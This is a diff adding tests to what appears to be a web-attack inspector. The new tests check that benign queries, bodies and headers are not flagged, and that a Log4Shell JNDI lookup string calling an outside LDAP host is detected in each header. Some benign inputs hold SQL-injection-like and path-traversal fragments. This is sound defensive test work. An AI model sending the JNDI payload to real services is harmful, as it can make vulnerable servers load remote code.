@@ -11,7 +11,15 @@ import { createInspector } from '../src/inspect/inspector.ts'
 import { attackProbability } from '../src/inspect/model.ts'
 import type { Inspection, InspectorSettings, RequestParts } from '../src/inspect/types.ts'
 import { allSignatures } from '../src/signatures/all.ts'
-import { bodyOf, requestOf, stageOf, type Labelled, type Payload, type Stage } from './corpus.ts'
+import {
+  bodyOf,
+  ordinaryTexts,
+  requestOf,
+  stageOf,
+  type Labelled,
+  type Payload,
+  type Stage,
+} from './corpus.ts'
 
 const inspector = createInspector()
 const query = (value: string): RequestParts => ({ url: `/?q=${encodeURIComponent(value)}` })
@@ -273,6 +281,80 @@ await t.test('what users and programs usually send is no attack', async (t) => {
     { headers: { cookie: '_ga=GA1.2.1.2; s=s%3Aabc.def%2Fghi%3D; theme="dark"' } },
   ]) {
     t.equal(inspect(parts).attack, false, JSON.stringify(parts).slice(0, 80))
+  }
+})
+
+await t.test(
+  'ordinary texts with a word of an attack are no attack, short or in prose',
+  async (t) => {
+    for (const text of ordinaryTexts) {
+      for (const [where, parts] of [
+        ['a query', query(text)],
+        ['a body', { body: { text } }],
+        [
+          'prose',
+          { body: `Hello, this is what I have seen today: ${text} and that is all I can say.` },
+        ],
+      ] as const) {
+        const { attack, reasons } = inspect(parts)
+        if (attack) t.fail(`${JSON.stringify(text)} in ${where}: ${reasons[0]?.rule}`)
+      }
+    }
+    const rows = Array.from({ length: 700 }, (_, i) => ({
+      id: String(i),
+      a: 'x',
+      b: 'x',
+      c: 'x',
+      d: 'x',
+    }))
+    const xml =
+      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 x.xsd"/>'
+    for (const parts of [
+      { body: { $type: 'app.example.feed.post', text: 'hi' } },
+      { body: { $set: { plan: 'pro' }, $search: 'blue' } },
+      { body: { rows } },
+      { body: { xml } },
+      { body: xml },
+      { body: { html: '<p style="color: red" class="note">Hello <a href="/a?b=1">you</a></p>' } },
+      { url: '/?$filter=a&$search=blue&$top=10&$orderby=name' },
+      { url: '/?redirect_uri=http://localhost:3000' },
+      { url: '/?next=https://192.168.1.20/app' },
+      { url: `/?next=${encodeURIComponent('/list?a=1&onpage=2')}` },
+      { url: '/?q=coast.+house' },
+      {
+        headers: {
+          referer: 'https://shop.example/search?q=the%20coast.&next=../../a&x=1%20or%201=1',
+        },
+      },
+      {
+        headers: {
+          host: 'shop.example',
+          authorization: 'Bearer a.b-c_d',
+          'sec-ch-ua': '"A";v="1"',
+        },
+      },
+    ]) {
+      const { attack, reasons } = inspect(parts)
+      t.equal(
+        attack,
+        false,
+        `${JSON.stringify(parts).slice(0, 80)} ${attack ? reasons[0]?.rule : ''}`,
+      )
+    }
+  },
+)
+
+await t.test('a lookup of Log4j is found in every header', async (t) => {
+  for (const name of [
+    'authorization',
+    'host',
+    'if-modified-since',
+    'sec-ch-ua',
+    'referer',
+    'date',
+  ]) {
+    const value = 'https://a.example/${jndi:ldap://b.example/a}'
+    t.match(inspect({ headers: { [name]: value } }), { attack: true, class: 'log4shell' }, name)
   }
 })
 
